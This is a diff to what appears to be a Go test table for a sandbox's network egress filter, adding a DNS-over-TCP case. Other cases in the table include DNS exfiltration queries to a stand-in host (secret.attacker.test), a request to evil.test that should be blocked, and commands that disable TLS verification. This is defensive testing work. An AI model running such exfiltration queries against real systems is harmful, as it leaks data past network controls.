@@ -30,6 +30,7 @@ var egressCases = []egressCase{
 	{name: "python urllib", script: `python3 -c "import ssl,urllib.request; print(urllib.request.urlopen('https://allowed.test/', context=ssl._create_unverified_context()).read().decode())"`, ok: true, want: "hello from allowed.test"},
 	{name: "git clone over https", script: "git -c http.sslVerify=false clone -q https://allowed.test/repo.git clone && git -C clone log --format=%s", ok: true, want: "from the fake internet"},
 	{name: "node fetch", script: `node -e "fetch('https://allowed.test/').then(r => r.text()).then(console.log)"`, ok: true, want: "hello from allowed.test"},
+	{name: "dns over tcp to the sandbox's resolver", script: "dig +tcp +short allowed.test", ok: true, want: "198.18.0.1"},
 	{name: "a name not allowed", script: "curl -sSk https://evil.test/", want: "Could not resolve host"},
 	{name: "dns exfiltration A", script: "dig +short secret.attacker.test; dig secret.attacker.test | grep -c NXDOMAIN", ok: true, want: "1"},
 	{name: "dns exfiltration TXT", script: "dig TXT secret.attacker.test | grep -c NXDOMAIN", ok: true, want: "1"},
